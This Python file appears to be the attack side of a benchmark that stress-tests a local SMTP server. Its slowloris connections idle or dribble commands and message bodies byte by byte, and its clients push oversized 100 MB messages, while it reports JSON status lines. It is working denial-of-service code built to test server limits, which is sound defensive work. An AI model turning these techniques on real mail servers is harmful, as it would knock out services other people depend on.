"""The attack side of bench/smtp_abuse.py, in its own process so it does not slow the legitimate client.

Slowloris: ``--connections`` sockets spread over source addresses 127.0.0.2, 127.0.0.3, ... (at
most ``--per-source`` each, so a per-IP cap does not hide what the global limits do). Each one
connects, says EHLO, then does one of three things for as long as the server lets it:
idle; dribble a command line a byte at a time; or open DATA and dribble the body a byte at a
time. A closed connection is opened again, as a real slowloris does.

Oversize: ``--oversize`` clients each push one message of ``--oversize-bytes`` (no SIZE= on MAIL,
the worst case) as fast as they can and record the reply after the final dot (552 expected);
``--oversize-shape noline`` sends it as a single line without CRLF.

A JSON status line is printed every second; SIGTERM ends the run after a final line.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import random
import resource
import signal
import time
from collections import Counter
from dataclasses import asdict, dataclass, field
from typing import Any

KINDS = ("idle", "dribble_command", "dribble_data")


@dataclass
class Status:
    held: int = 0  # connections past the 220 greeting and still open
    peak_held: int = 0
    opened: int = 0
    refused_421: int = 0  # greeted with 421 (a connection cap)
    closed_by_server: int = 0  # a held connection the server ended (timeout, limit)
    connect_errors: int = 0
    errors: Counter[str] = field(default_factory=Counter)
    oversize_replies: list[str] = field(default_factory=list)
    oversize_seconds: list[float] = field(default_factory=list)

    def line(self) -> str:
        data = asdict(self)
        data["errors"] = dict(self.errors)
        data["time"] = time.time()
        return json.dumps(data)


def raise_fd_limit() -> int:
    """The attack needs ~1,000 sockets: lift the soft RLIMIT_NOFILE to the hard limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or soft < hard:
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


async def reply(reader: asyncio.StreamReader) -> str:
    """One (possibly multi-line) SMTP reply; the last line."""
    while True:
        line = await reader.readline()
        if not line:
            raise ConnectionResetError("server closed the connection")
        if line[3:4] != b"-":
            return line.decode("latin-1").strip()


async def command(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, text: str) -> str:
    writer.write(text.encode() + b"\r\n")
    await writer.drain()
    return await reply(reader)


async def dribble(writer: asyncio.StreamWriter, data: bytes, interval: float) -> None:
    for byte in data:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(interval * random.uniform(0.5, 1.5))


async def slowloris(n: int, args: argparse.Namespace, status: Status) -> None:
    source = f"127.0.0.{2 + n // args.per_source}"
    kind = KINDS[n % len(KINDS)]
    await asyncio.sleep(n * args.ramp / max(1, args.connections))  # spread the connects
    while True:
        writer = None
        held = False
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", args.port, local_addr=(source, 0), limit=1 << 16
            )
            status.opened += 1
            greeting = await reply(reader)
            if greeting.startswith("421"):
                status.refused_421 += 1
                await asyncio.sleep(args.retry)
                continue
            held = True
            status.held += 1
            status.peak_held = max(status.peak_held, status.held)
            await command(reader, writer, f"EHLO slow{n}.attacker.example")
            if kind == "dribble_command":
                await dribble(writer, b"MAIL FROM:<slow@attacker.example>" + b" " * 10_000, args.interval)
            elif kind == "dribble_data":
                await command(reader, writer, "MAIL FROM:<slow@attacker.example>")
                await command(reader, writer, f"RCPT TO:<{args.rcpt}>")
                await command(reader, writer, "DATA")
                await dribble(writer, b"Subject: slow\r\n\r\n" + b"x" * 100_000, args.interval)
            else:
                await reader.read()  # until the server closes it
            raise ConnectionResetError("server closed the connection")
        except (ConnectionError, asyncio.IncompleteReadError) as exc:
            if held:
                status.closed_by_server += 1
            else:
                status.errors[type(exc).__name__] += 1
        except OSError as exc:
            status.connect_errors += 1
            status.errors[f"{type(exc).__name__}: {exc.strerror}"] += 1
        finally:
            if held:
                status.held -= 1
            if writer is not None:
                writer.close()
        await asyncio.sleep(args.retry)


async def oversize(n: int, args: argparse.Namespace, status: Status) -> None:
    """Push one message of args.oversize_bytes and record the reply after the final dot."""
    t0 = time.monotonic()
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", args.port, limit=1 << 16)
        await reply(reader)
        await command(reader, writer, f"EHLO big{n}.attacker.example")
        await command(reader, writer, "MAIL FROM:<big@attacker.example>")
        await command(reader, writer, f"RCPT TO:<{args.rcpt}>")
        await command(reader, writer, "DATA")
        writer.write(f"Subject: oversize {n}\r\n\r\n".encode())
        chunk = (b"y" * 998 + b"\r\n") * 64 if args.oversize_shape == "lines" else b"y" * 64_000
        sent = 0
        while sent < args.oversize_bytes:
            writer.write(chunk)
            await writer.drain()
            sent += len(chunk)
        answer = await command(reader, writer, "\r\n." if args.oversize_shape == "noline" else ".")
        writer.close()
    except (OSError, asyncio.IncompleteReadError) as exc:
        answer = f"error {type(exc).__name__}: {exc}"
    status.oversize_replies.append(answer[:80])
    status.oversize_seconds.append(time.monotonic() - t0)


async def report_until_sigterm(status: Any, tasks: list[asyncio.Task[None]]) -> None:
    """Print ``status.line()`` every second until SIGTERM, then stop the tasks and print it once more."""
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    while not stop.is_set():
        print(status.line(), flush=True)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), 1.0)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(status.line(), flush=True)


async def main(args: argparse.Namespace) -> None:
    status = Status()
    tasks = [asyncio.create_task(slowloris(n, args, status)) for n in range(args.connections)]
    tasks += [asyncio.create_task(oversize(n, args, status)) for n in range(args.oversize)]
    await report_until_sigterm(status, tasks)


def parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--rcpt", required=True, help="an inbox the DATA dribblers and oversize pushers address")
    p.add_argument("--connections", type=int, default=1000)
    p.add_argument("--per-source", type=int, default=40, help="connections per source address")
    p.add_argument("--interval", type=float, default=2.0, help="seconds between dribbled bytes")
    p.add_argument("--ramp", type=float, default=5.0, help="seconds over which the connections open")
    p.add_argument("--retry", type=float, default=1.0, help="seconds before reconnecting")
    p.add_argument("--oversize", type=int, default=0, help="clients pushing one oversized message each")
    p.add_argument("--oversize-bytes", type=int, default=100 * 1024 * 1024)
    p.add_argument("--oversize-shape", choices=["lines", "noline"], default="lines")
    return p


if __name__ == "__main__":
    raise_fd_limit()
    asyncio.run(main(parser().parse_args()))
